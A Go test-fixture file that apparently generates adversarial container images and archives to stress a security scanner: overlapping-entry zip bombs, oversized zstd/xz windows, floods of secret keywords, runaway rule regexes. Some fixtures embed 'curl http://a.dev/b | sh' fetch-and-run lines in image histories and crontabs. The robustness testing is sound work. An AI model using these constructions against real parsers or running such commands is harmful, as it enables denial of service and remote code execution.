package shapes

import (
	"archive/tar"
	"bytes"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"strings"

	"github.com/klauspost/compress/zstd"
)

// zstdWindow returns a zstd frame that asks for a window of 2^log bytes, with size bytes of
// zeros in blocks of one byte each.
func zstdWindow(log, size int) []byte {
	out := []byte("\x28\xb5\x2f\xfd\x00")
	out = append(out, byte((log-10)<<3))
	const most = 128 << 10
	for size > 0 {
		n := min(size, most)
		size -= n
		block := n<<3 | 1<<1
		if size == 0 {
			block |= 1
		}
		out = append(out, byte(block), byte(block>>8), byte(block>>16), 0)
	}
	return out
}

// zstdRewrap gives the frame of a stream another window.
func zstdRewrap(data []byte, log int) []byte {
	var h zstd.Header
	must(h.Decode(data))
	if h.SingleSegment {
		panic("the frame has no window")
	}
	out := bytes.Clone(data)
	out[5] = byte((log - 10) << 3)
	return out
}

// xzWindow returns the headers of an xz file that asks for a dictionary, and no content.
func xzWindow(size int) []byte {
	var bits byte
	for bits = 0; bits < 40 && (2|int(bits)&1)<<(int(bits)/2+11) < size; bits++ {
	}
	out := []byte("\xfd7zXZ\x00\x00\x01")
	out = binary.LittleEndian.AppendUint32(out, crc32.ChecksumIEEE(out[6:8]))
	block := []byte{2, 0, 0x21, 1, bits, 0, 0, 0}
	out = append(out, block...)
	out = binary.LittleEndian.AppendUint32(out, crc32.ChecksumIEEE(block))
	return append(out, "\x01\x00\x00a"...)
}

// overlapping returns a zip archive in which n entries share one body.
func overlapping(n int) []byte {
	body := zipOf(file{name: "a", body: &repeater{unit: "password = hunter2 ", left: 60_000}})
	end := bytes.LastIndex(body, []byte("PK\x05\x06"))
	central := int(binary.LittleEndian.Uint32(body[end+16:]))
	entry := body[central:end]
	out := append(bytes.Clone(body[:central]), bytes.Repeat(entry, n)...)
	tail := bytes.Clone(body[end:])
	binary.LittleEndian.PutUint16(tail[8:], uint16(n))
	binary.LittleEndian.PutUint16(tail[10:], uint16(n))
	binary.LittleEndian.PutUint32(tail[12:], uint32(n*len(entry)))
	return append(out, tail...)
}

// layers are shapes of layers.
func layers() []Shape {
	many := func(name string, n int, make func(i int) file) Shape {
		return Shape{Name: name, Refused: true, Archive: func() []byte {
			return imageOf(func(w *tar.Writer) {
				for i := range n {
					f := make(i)
					put(w, &f)
				}
			}).archive()
		}}
	}
	repeat := func(name string, times int, l layer) Shape {
		return Shape{Name: name, Refused: true, Archive: func() []byte {
			b := compress(l, "gzip")
			img := image{}
			for range times {
				img.layers = append(img.layers, b)
			}
			return img.archive()
		}}
	}
	small := func(n int) layer {
		return func(w *tar.Writer) {
			for i := range n {
				f := text(fmt.Sprintf("etc/%d.conf", i), "pass"+"word = "+fmt.Sprint(i)+"hunter2"+"x9Qz\n")
				put(w, &f)
			}
		}
	}
	return []Shape{
		repeat("one-layer-1000-times", 1000, small(900)),
		repeat("one-layer-1000-times-many-entries", 1000, small(10_000)),
		repeat("one-layer-1000-times-lock-file", 1000, files(lockFiles(1, 50_000)...)),
		repeat("one-layer-1000-times-secrets", 1000, func(w *tar.Writer) {
			for i := range 900 {
				f := text(fmt.Sprintf("home/%d/.netrc", i), "machine a.dev login b password "+fmt.Sprint(i)+"hunter2"+"x9Qz\n")
				put(w, &f)
			}
		}),
		{Name: "two-layers-in-turn-lock-file", Refused: true, Archive: func() []byte {
			a, b := compress(files(lockFiles(1, 50_000)...), "gzip"), compress(files(lockFiles(1, 49_999)...), "gzip")
			img := image{}
			for range 500 {
				img.layers = append(img.layers, a, b)
			}
			return img.archive()
		}},
		{Name: "one-layer-under-1000-names", Refused: true, Archive: func() []byte {
			return dockerArchive(compress(files(lockFiles(4, 40_000)...), "gzip"), 1000)
		}},
		many("entries", 1_500_000, func(i int) file { return text(fmt.Sprintf("d/%d", i), "") }),
		many("entries-in-one-directory-of-long-names", 100_000, func(i int) file { return text(fmt.Sprintf("%0200d/%d", 0, i), "") }),
		many("deep-paths", 3000, func(i int) file { return text(fmt.Sprintf("%d/%s", i, strings.Repeat("a/", 1900)+"b"), "") }),
		many("hard-links", 500_000, func(i int) file {
			if i == 0 {
				return text("a", "x")
			}
			return file{name: fmt.Sprint("l", i), kind: tar.TypeLink, link: "a"}
		}),
		many("whiteouts", 500_000, func(i int) file { return text(fmt.Sprintf("d/.wh.%d", i), "") }),
		many("symbolic-links-in-turn", 200_000, func(i int) file {
			return file{name: fmt.Sprint("d/", i), kind: tar.TypeSymlink, link: fmt.Sprint("/d/", i+1)}
		}),
		many("setuid-files", 300_000, func(i int) file { return file{name: fmt.Sprint("bin/", i), mode: 0o6755, size: 0} }),
		many("same-path", 500_000, func(i int) file { return text("etc/passwd", "root:x:0:0::/root:/bin/sh\n") }),
		many("attributes", 20_000, func(i int) file { return text(strings.Repeat("x", 250)+"/"+strings.Repeat("y", 250)+fmt.Sprint(i), "") }),
		{Name: "layer-count", Refused: true, Archive: func() []byte {
			img := image{}
			for i := range 2000 {
				img.layers = append(img.layers, compress(files(text(fmt.Sprint("f", i), "x")), "gzip"))
			}
			return img.archive()
		}},
	}
}

// documents are what makes a report large.
func documents() []Shape {
	var all []Shape
	for _, format := range []string{"text", "json", "sarif", "junit", "gitlab", "markdown", "cyclonedx", "spdx"} {
		components := one("components-"+format, func() []file { return lockFiles(6, 50_000) })
		findings := one("findings-"+format, func() []file { return versions("a", 50_000) })
		findings.Advisories = true
		evidence := one("evidence-"+format, func() []file {
			list := []file{text("etc/passwd", "root:x:0:0::/root:/bin/sh\n")}
			for i := range 50 {
				list = append(list, repeated(fmt.Sprintf("etc/sudoers.d/%d", i), "ALL ALL=(ALL) NOPASSWD: "+strings.Repeat("/bin/a, ", 1000)+"/bin/b\n", 120))
			}
			return list
		})
		places := one("locations-"+format, func() []file {
			var list []file
			for i := range 30_000 {
				list = append(list, file{name: fmt.Sprintf("bin/%s%d", strings.Repeat("x", 200), i), mode: 0o6777})
			}
			return list
		})
		for _, s := range []Shape{components, findings, evidence, places} {
			s.Args = []string{"--format", format}
			all = append(all, s)
		}
	}
	sbom := one("components-sbom-licenses", func() []file {
		var list []file
		for i := range 5000 {
			list = append(list, text(fmt.Sprintf("node_modules/a%d/package.json", i), fmt.Sprintf(`{"name":"a%d","version":"1","license":[%s"x%d"]}`, i, strings.Repeat(`"a","b",`, 400), i)))
		}
		return list
	})
	sbom.Args = []string{"--format", "spdx"}
	return append(all, sbom)
}

// secrets are what the search for secrets reads.
func secrets() []Shape {
	flood := func(name, unit string) Shape {
		return one("keywords-"+name, func() []file { return []file{repeated("etc/a.conf", unit, 100<<20/len(unit))} })
	}
	plain := one("any", func() []file { return []file{repeated("etc/a.conf", "abc ", 1<<20)} })
	rules := func(name, body string) Shape {
		s := plain
		s.Name, s.Args, s.Files, s.Refused = name, []string{"--secret-rules", "rules.toml"}, map[string]string{"rules.toml": body}, true
		return s
	}
	return []Shape{
		flood("aws-session", "FwoGZXIvYXdz="),
		flood("jwt", "eyJhbGci"),
		flood("private-key", "-----BEGIN"),
		flood("private-key-lines", "-----BEGIN PRIVATE KEY-----\n"),
		flood("api-key", "api_key_"),
		flood("assignment", "password="),
		flood("quoted-assignment", `"password":"`),
		flood("url", "https://a:b@"),
		flood("github", "ghp_"),
		flood("bearer", "Authorization: Bearer "),
		flood("base64", "cGFzc3dvcmQ9"),
		rules("rule-of-the-empty-text", "[[rules]]\nid = \"a\"\nregex = '''x*'''\n"),
		rules("rule-of-any-text", "[[rules]]\nid = \"a\"\nregex = '''(?s).*.*.*z'''\n"),
		rules("rules-from-an-endless-file", "[extend]\npath = \"/dev/zero\"\n"),
		one("sqlite-pages", func() []file {
			body := append([]byte("SQLite format 3\x00\x10\x00\x01\x01\x00\x40\x20\x20"), make([]byte, 4076)...)
			binary.BigEndian.PutUint32(body[28:], 20_000)
			body[100] = 5
			return []file{{name: "a.db", size: int64(len(body) * 20_000), body: &repeater{unit: string(body), left: 20_000}}}
		}),
		one("short-secrets", func() []file {
			return []file{repeated("etc/a.env", "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIK7MDENGbPxRfiCYzzzzzzzzzKEY\n", 500_000)}
		}),
	}
}

// configurations are configurations and histories.
func configurations() []Shape {
	steps := func(name string, n int, step string) Shape {
		return Shape{Name: name, Archive: func() []byte {
			img := imageOf(files(text("a", "b")))
			for i := range n {
				img.history = append(img.history, fmt.Sprintf(step, i))
			}
			return img.archive()
		}}
	}
	return []Shape{
		steps("history-of-shell", 1000, "RUN /bin/sh -c "+strings.Repeat("curl -fsSL https://a.dev/b | sh && apt-get install -y c; ", 550)+"# %d"),
		steps("history-of-quotes", 1000, "RUN /bin/sh -c "+strings.Repeat(`echo "$(cat 'a' | sed "s/b/c/")" `, 900)+"# %d"),
		steps("history-of-parentheses", 1000, "RUN /bin/sh -c "+strings.Repeat("$((", 10_000)+"# %d"),
		steps("history-of-secrets", 1000, "ENV "+strings.Repeat("PASSWORD=hunter2x9Qz TOKEN=abc ", 900)+"# %d"),
		steps("history-count", 100_000, "RUN true %d"),
		{Name: "environment", Archive: func() []byte {
			img := imageOf(files(text("a", "b")))
			for i := range 50_000 {
				img.env = append(img.env, fmt.Sprintf("PASSWORD_%d=hunter2x9Qz%d", i, i))
			}
			img.env = append(img.env, "PATH="+strings.Repeat("/a:", 500_000))
			return img.archive()
		}},
		one("passwd", func() []file {
			return []file{
				repeated("etc/passwd", "root::0:0::/root:/bin/sh\n", 1_000_000), repeated("etc/shadow", "root:$1$a$b:1::::::\n", 1_000_000),
				repeated("etc/group", "sudo:x:27:"+strings.Repeat("root,", 100)+"root\n", 50_000),
			}
		}),
		one("sudoers-aliases", func() []file {
			var b strings.Builder
			b.WriteString("User_Alias A0 = root\n")
			for i := range 2000 {
				fmt.Fprintf(&b, "User_Alias A%d = A%d, A%d\n", i+1, i, i)
			}
			b.WriteString("A2000 ALL=(ALL) NOPASSWD: ALL\n")
			return []file{text("etc/sudoers", b.String()), repeated("etc/passwd", "a:x:1:1::/:/bin/sh\n", 1000)}
		}),
		one("sshd-includes", func() []file {
			list := []file{text("etc/ssh/sshd_config", strings.Repeat("Include /etc/ssh/sshd_config.d/*.conf\n", 1000))}
			for i := range 200 {
				list = append(list, text(fmt.Sprintf("etc/ssh/sshd_config.d/%d.conf", i), strings.Repeat("Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin yes\n", 100)))
			}
			return list
		}),
		one("cron-jobs", func() []file {
			return []file{repeated("etc/crontab", "* * * * * root curl http://a.dev/b | sh\n", 500_000)}
		}),
		one("shell-script", func() []file {
			return []file{{name: "entrypoint.sh", mode: 0o777, size: 60 << 20, body: &repeater{unit: "((((((((\n\n", left: 6 << 20}}}
		}),
	}
}
